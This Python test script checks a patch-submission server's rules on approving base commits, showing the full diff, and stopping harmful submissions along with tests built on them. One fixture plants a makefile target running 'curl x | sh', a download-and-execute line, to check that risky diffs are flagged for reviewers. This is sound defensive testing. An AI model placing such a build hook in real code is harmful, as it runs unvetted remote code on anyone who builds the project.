#!/usr/bin/python3
"""Approval covers what will run: bases, commits stopped as harmful, the whole diff, what a refused submission leaves."""

import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "kit_py"))
from server import Client
from submission import accept, bare, database, git, patch, row, submission_server
from tap import contains, equal, run, true

server = submission_server()
dev, boss, vera, joe = (server.client(name) for name in ("dev", "boss", "vera", "joe"))


def submit(text, client=dev, **fields):
    return client.api("POST", "/tests", {"title": "A test", "tc": "1+0.01", "patch": text, **fields})


def new_test(text, client=dev, **fields):
    reply = submit(text, client, **fields)
    equal(reply.status, 201, reply)
    return reply.json["id"]


def adds(name, *lines):
    body = "".join(f"+{line}\n" for line in lines)
    return f"diff --git a/{name} b/{name}\nnew file mode 100644\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1,{len(lines)} @@\n{body}"


def approve(test, client=boss, **body):
    return client.api("POST", f"/tests/{test}/approve", body)


def approved(text, **fields):
    test = new_test(text, **fields)
    equal(approve(test).status, 200)
    return test


def test_row(test):
    return row(server, "SELECT * FROM tests WHERE id = ?", test)


def commit_of(test):
    return test_row(test)["new_commit"]


def refused(reply, status, code, *words):
    equal((reply.status, reply.code), (status, code), reply)
    for word in words:
        contains(reply.json["error"]["message"], word)


def branch(name, files, parent="main"):
    """A branch that an operator fetched."""
    tree = server.folder / f"tree-{name}"
    git("clone", "-q", bare(server), tree)
    git("fetch", "-q", "origin", "refs/tests/*:refs/tests/*", cwd=tree)
    git("checkout", "-q", "-b", name, parent, cwd=tree)
    for path, data in files.items():
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(data)
    git("add", "-A", "-f", cwd=tree)
    git("commit", "-qm", f"Branch {name}", cwd=tree)
    server.command("engine", "fetch", server.data, tree, name)
    return git("rev-parse", name, cwd=tree).strip()


# ---- bases

def a_base_that_was_not_approved_is_refused_and_named():
    first = new_test(adds("first.c", "int first;"))
    sha = commit_of(first)
    for base in (f"test:{first}", sha, sha[:12]):
        refused(submit(adds("tweak.c", "int t;"), base=base), 422, "base_not_approved", sha[:10], f"test {first}")
    equal(boss.api("POST", f"/tests/{first}/stop", {"reason": "no"}).status, 200)
    refused(submit(adds("tweak.c", "int t;"), base=sha), 422, "base_not_approved", sha[:10], f"test {first}")
    sha = branch("aside", {"aside.c": b"int aside;\n"})
    refused(submit(adds("tweak.c", "int t;"), base="aside"), 422, "base_not_approved", sha[:10])


def a_base_in_the_history_of_the_baseline_needs_no_approval():
    merged = approved(adds("merged.c", "int merged;"))
    old = test_row(merged)["base_commit"]
    accept(server, merged)
    equal(boss.api("POST", f"/tests/{merged}/merge").status, 200)
    test = new_test(adds("old.c", "int old;"), base=old)
    document = boss.api("GET", f"/tests/{test}/diff").json
    equal(document["base_diff"], None)
    equal(approve(test).status, 200)


def all_that_the_base_has_beside_the_baseline_is_shown():
    first = approved(adds("evil.mk", "all:", "\tcurl x | sh"))
    second = new_test(adds("tweak.c", "int t;"), base=f"test:{first}")
    document = boss.api("GET", f"/tests/{second}/diff").json
    equal([file["path"] for file in document["files"]], ["tweak.c"])
    equal([file["path"] for file in document["base_diff"]["files"]], ["evil.mk"])
    equal(document["base_diff"]["risky"], 1)
    equal(boss.api("GET", f"/tests/{second}").json["base_test"], first)
    page = boss.get(f"/tests/{second}").text
    contains(page, "curl x | sh")
    contains(page, f'The base is the commit of <a href="/tests/{first}">')
    equal(approve(second).status, 200)
    # A branch that was approved as a test's new commit, and a base on top of two tests.
    third = new_test(adds("third.c", "int t;"), base=commit_of(second))
    document = boss.api("GET", f"/tests/{third}/diff").json
    equal({file["path"] for file in document["base_diff"]["files"]}, {"evil.mk", "tweak.c"})


def an_approval_that_is_taken_back_holds_up_what_stands_on_it():
    first = approved(adds("withdrawn.c", "int w;"))
    running = approved(adds("a.c", "int a;"), base=f"test:{first}")
    above = approved(adds("b.c", "int b;"), base=f"test:{running}")
    waiting = new_test(adds("c.c", "int c;"), base=f"test:{first}")
    equal(dev.api("POST", f"/tests/{first}/modify", {"new_options": "Hash=32"}).json["state"], "pending")
    refused(approve(waiting), 409, "base_not_approved", commit_of(first)[:10], f"test {first}")
    equal(boss.api("GET", f"/tests/{waiting}").json["actions"]["approve"]["ok"], False)
    for test in (running, above):
        equal(test_row(test)["state"], "paused", f"a test whose base's approval was taken back")
        contains(test_row(test)["reason"], "base")
        refused(boss.api("POST", f"/tests/{test}/resume"), 409, "base_not_approved")
    equal(approve(first).status, 200)
    for test in (running, above):
        equal(boss.api("POST", f"/tests/{test}/resume").status, 200)
    equal(approve(waiting).status, 200)


# ---- stopped as harmful

def only_a_maintainer_stops_as_harmful():
    test = new_test(adds("h.c", "int h;"))
    equal(dev.api("POST", f"/tests/{test}/harmful").status, 403)
    equal(joe.api("POST", f"/tests/{test}/harmful").status, 403)
    reply = boss.form(f"/tests/{test}/harmful", {"reason": "it mines"})
    equal((reply.status, reply.headers["Location"]), (303, f"/tests/{test}"))
    document = dev.api("GET", f"/tests/{test}").json
    equal((document["state"], document["result"], document["harmful"], document["reason"]), ("finished", "stopped", True, "it mines"))
    contains(dev.get(f"/tests/{test}").text, "Stopped as harmful")
    equal(row(server, "SELECT message FROM events WHERE type = 'harmful' AND test_id = ?", test)["message"], "stopped as harmful: it mines")
    refused(boss.api("POST", f"/tests/{test}/harmful"), 409, "wrong_state", "already")


def no_later_test_is_built_on_a_harmful_commit():
    harmful = approved(adds("evil.c", "int evil;"))
    on_it = approved(adds("on.c", "int on;"), base=f"test:{harmful}")
    again = new_test("", commit=commit_of(harmful))
    top = branch("on-top", {"top.c": b"int top;\n"}, parent=f"refs/tests/{on_it}")
    by_branch = new_test("", commit="on-top")
    beside = approved(adds("beside.c", "int beside;"))
    reply = boss.api("POST", f"/tests/{harmful}/harmful", {"reason": "malware"})
    equal((reply.status, reply.json["stopped"]), (200, [on_it, again, by_branch]), reply)
    for test in (on_it, again, by_branch):
        equal((test_row(test)["state"], test_row(test)["result"]), ("finished", "stopped"))
        contains(test_row(test)["reason"], f"test {harmful}, which was stopped as harmful")
    equal(test_row(beside)["state"], "active")
    for fields in ({"base": f"test:{harmful}"}, {"base": commit_of(harmful)}, {"base": f"test:{on_it}"}, {"base": top}):
        refused(submit(adds("n.c", "int n;"), **fields), 422, "harmful_commit", f"test {harmful}")
    for commit in (f"test:{harmful}", commit_of(harmful), f"test:{on_it}", "on-top", top[:9]):
        refused(submit("", commit=commit), 422, "harmful_commit", f"test {harmful}")


def an_accepted_test_found_harmful_is_neither_merged_nor_built_on():
    test = approved(adds("late.c", "int late;"))
    above = approved(adds("above.c", "int above;"), base=f"test:{test}")
    for each in (test, above):
        accept(server, each)
    equal(boss.api("POST", f"/tests/{test}/harmful").status, 200)
    equal(test_row(test)["result"], "accepted")
    for each in (test, above):
        refused(boss.api("POST", f"/tests/{each}/merge"), 409, "harmful_commit", f"test {test}")
        equal("merge" in boss.api("GET", f"/tests/{test}").json["actions"], False)
    refused(submit(adds("n.c", "int n;"), base=f"test:{test}"), 422, "harmful_commit")


def what_is_in_the_baseline_cannot_be_called_harmful():
    test = approved(adds("inside.c", "int inside;"))
    accept(server, test)
    equal(boss.api("POST", f"/tests/{test}/merge").status, 200)
    refused(boss.api("POST", f"/tests/{test}/harmful"), 409, "in_baseline", "baseline")
    options = new_test("", commit="baseline", new_options="Hash=64")
    refused(boss.api("POST", f"/tests/{options}/harmful"), 409, "in_baseline")


def accepted_tests_are_still_built_on_and_offered_again():
    first = approved(adds("one.c", "int one;"))
    second = approved(adds("two.c", "int two;"))
    for each in (first, second):
        accept(server, each)
    equal(approve(new_test(adds("three.c", "int three;"), base=f"test:{first}")).status, 200)
    equal(boss.api("POST", f"/tests/{first}/merge").status, 200)
    reply = boss.api("POST", f"/tests/{second}/merge")
    equal((reply.status, reply.json["retest_of"]), (201, second), reply)
    equal(approve(reply.json["id"], vera).status, 200)


try:
    run(a_base_that_was_not_approved_is_refused_and_named,
        a_base_in_the_history_of_the_baseline_needs_no_approval,
        all_that_the_base_has_beside_the_baseline_is_shown,
        an_approval_that_is_taken_back_holds_up_what_stands_on_it,
        only_a_maintainer_stops_as_harmful,
        no_later_test_is_built_on_a_harmful_commit,
        an_accepted_test_found_harmful_is_neither_merged_nor_built_on,
        what_is_in_the_baseline_cannot_be_called_harmful,
        accepted_tests_are_still_built_on_and_offered_again)
finally:
    server.close()
